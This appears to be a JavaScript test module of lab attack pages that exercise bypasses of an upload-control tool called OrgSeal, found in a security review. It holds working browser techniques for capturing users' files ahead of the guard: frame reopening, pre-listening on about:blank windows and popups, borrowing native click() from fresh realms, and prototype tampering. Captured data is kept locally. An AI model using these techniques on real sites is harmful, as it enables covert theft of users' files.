// Pages written to beat OrgSeal, one per route the security review of
// 2026-12-02 found (C1-C3, H5) and a few more of our own. Each puts the
// page's listeners where OrgSeal's used to come second: on a child window
// before OrgSeal's script runs there, after a document.open(), or on a
// prototype it changed; each records what it got in window.__stolen (the
// top page's), as {via, name, head}: the file's first 16 bytes.
import { LAB_JS } from './harness.mjs';

const STEAL = `<script>${LAB_JS}
  window.__stolen = [];
  window.keep = (files, via) => { for (const f of files ?? []) f.slice(0, 16).arrayBuffer().then((b) =>
    window.__stolen.push({ via, name: f.name, head: String.fromCharCode(...new Uint8Array(b)) })); };
  // Everything a page ahead of OrgSeal would put on a window: a click
  // stopper (so OrgSeal's chooser never opens) and readers of every route.
  window.listenAhead = (w, via) => {
    w.addEventListener('click', (e) => { if (e.isTrusted) e.stopImmediatePropagation(); }, true);
    w.addEventListener('pointerdown', (e) => e.stopImmediatePropagation(), true);
    for (const t of ['input', 'change']) w.addEventListener(t, (e) => keep(e.target.files, via + ' ' + t), true);
    w.addEventListener('dragover', (e) => e.preventDefault(), true);
    w.addEventListener('drop', (e) => { e.preventDefault(); keep(e.dataTransfer.files, via + ' drop'); }, true);
    w.addEventListener('paste', (e) => keep(e.clipboardData.files, via + ' paste'), true);
  };
</script>`;
const page = (body) => `<!doctype html><html><head><meta charset="utf-8">${STEAL}</head><body>${body}</body></html>`;

// What the frames and popups load: a file input, a drop zone, a paste target.
export const INNER_BODY = '<input type="file" id="i" style="display:block;width:240px;height:40px"><div id="zone" style="width:240px;height:60px;border:1px solid">drop</div><div id="ed" contenteditable="true" style="width:240px;height:30px;border:1px solid"></div>';
const INNER = `<!doctype html><html><head><meta charset="utf-8"></head><body>${INNER_BODY}</body></html>`;

export const ATTACK_PAGES = {
  '/lab/atk/inner': INNER,
  // C1: the top page opens its frame's document with its own (hooked)
  // document.open, then listens on the frame's window before writing.
  '/lab/atk/reopen-frame': page(`<iframe id="f" src="/lab/atk/inner" style="width:300px;height:180px"></iframe><script>
    f.onload = () => { f.onload = null; const d = f.contentDocument; d.open(); listenAhead(f.contentWindow, 'reopened frame');
      d.write(${JSON.stringify(INNER_BODY)}); d.close(); window.__ready = true; };</script>`),
  // C1: the top document opened through a frame's realm.
  '/lab/atk/reopen-top': page(`<iframe id="f" src="/lab/atk/inner"></iframe><script>
    f.onload = () => { f.onload = null; f.contentWindow.Document.prototype.open.call(document); listenAhead(window, 'reopened top');
      document.write(${JSON.stringify(INNER_BODY)} + '<script>window.__ready = true<' + '/script>'); document.close(); };</script>`),
  // C2: listeners on a frame's initial about:blank window, which the
  // same-origin document that loads next keeps.
  '/lab/atk/prelisten-frame': page(`<script>
    const f = document.createElement('iframe'); f.id = 'f'; f.src = '/lab/atk/inner'; f.style.cssText = 'width:300px;height:180px';
    document.body.append(f); listenAhead(f.contentWindow, 'pre-listened frame');</script>`),
  // C2, a frame the parser made, reached as frames[0] by the next script.
  '/lab/atk/prelisten-parsed': page(`<iframe id="f" src="/lab/atk/inner" style="width:300px;height:180px"></iframe><script>
    listenAhead(frames[0], 'pre-listened parsed frame');</script>`),
  // C2, a frame inside a closed shadow root, reached through the element.
  '/lab/atk/prelisten-shadow': page(`<div id="host"></div><script>
    const r = host.attachShadow({ mode: 'closed' }); r.innerHTML = '<iframe src="/lab/atk/inner" style="width:300px;height:180px"></iframe>';
    listenAhead(r.querySelector('iframe').contentWindow, 'pre-listened shadow frame');</script>`),
  // C2, a popup the page opens and listens on at once.
  '/lab/atk/prelisten-popup': page(`<button id="pop">Upload in a window</button><script>
    pop.onclick = () => { const w = window.open('/lab/atk/inner', '_blank', 'popup,width=400,height=300'); listenAhead(w, 'pre-listened popup'); };</script>`),
  // The review's "about:blank frame opened and written by the page".
  '/lab/atk/blank-written': page(`<script>
    const f = document.createElement('iframe'); f.id = 'f'; f.style.cssText = 'width:300px;height:180px'; document.body.append(f);
    const d = f.contentDocument; d.open(); listenAhead(f.contentWindow, 'written blank frame'); d.write(${JSON.stringify(INNER_BODY)}); d.close();</script>`),
  // Review of our own change: page code that runs inside the insertion of a
  // frame (a custom element's connectedCallback), before OrgSeal's hook can
  // arm the frame's window: it takes the untouched realm's click() and
  // listens on the window. OrgSeal cannot be first there, so it must say so.
  '/lab/atk/reached-in-insertion': page(`<button id="b">Add a file</button><script>
    customElements.define('x-grab', class extends HTMLElement { connectedCallback() {
      window.__nat = window[0].HTMLElement.prototype.click; listenAhead(window[0], 'reached in insertion'); } });
    const f = document.createElement('iframe'); f.id = 'f'; f.src = '/lab/atk/inner'; f.style.cssText = 'width:300px;height:180px';
    document.body.append(f, document.createElement('x-grab'));
    b.onclick = () => { const i = document.createElement('input'); i.type = 'file'; i.onchange = () => keep(i.files, 'native click from the reached realm'); window.__nat.call(i); };</script>`),
  // C3: one line of prototype tampering, then click() on a detached input.
  '/lab/atk/spoof-connected': page(`<button id="b">Add a file</button><script>
    Object.defineProperty(Node.prototype, 'isConnected', { get() { return true; } });
    Element.prototype.append = function () {};
    b.onclick = () => { const i = document.createElement('input'); i.type = 'file';
      i.onchange = () => keep(i.files, 'spoofed detached'); i.click(); };</script>`),
  // C3: click() and dispatchEvent taken from a frame's fresh realm (a frame
  // whose src is still loading has no OrgSeal script yet).
  '/lab/atk/fresh-realm': page(`<button id="b">Add a file</button><button id="c">Add (dispatch)</button><script>
    const f = document.createElement('iframe'); f.src = '/lab/atk/inner'; document.body.append(f);
    const click = f.contentWindow.HTMLElement.prototype.click;
    const dispatch = f.contentWindow.EventTarget.prototype.dispatchEvent;
    const FreshMouseEvent = f.contentWindow.MouseEvent;
    const detached = (via) => { const i = document.createElement('input'); i.type = 'file'; i.onchange = () => keep(i.files, via); return i; };
    b.onclick = () => click.call(detached('fresh-realm click'));
    c.onclick = () => dispatch.call(detached('fresh-realm dispatch'), new FreshMouseEvent('click'));</script>`),
  // Our own: EventTarget.prototype.dispatchEvent replaced, then a dispatched click.
  '/lab/atk/dispatch-override': page(`<button id="b">Add a file</button><script>
    const real = EventTarget.prototype.dispatchEvent;
    EventTarget.prototype.dispatchEvent = function (e) { return real.call(this, e); };
    b.onclick = () => { const i = document.createElement('input'); i.type = 'file';
      i.onchange = () => keep(i.files, 'overridden dispatch'); i.dispatchEvent(new MouseEvent('click')); };</script>`),
  // H5: a closed component whose label opens a hidden file input; the
  // component reads its root first.
  '/lab/atk/closed-label': page(`<x-up id="host" style="display:block;width:240px;height:40px"></x-up><script>
    customElements.define('x-up', class extends HTMLElement { constructor() { super();
      const r = this.attachShadow({ mode: 'closed' });
      r.innerHTML = '<label style="display:block;width:240px;height:40px">Attach a file<input type=file hidden></label>';
      for (const t of ['input', 'change']) r.addEventListener(t, (e) => keep(e.target.files, 'closed label ' + t), true); } });</script>`),
};
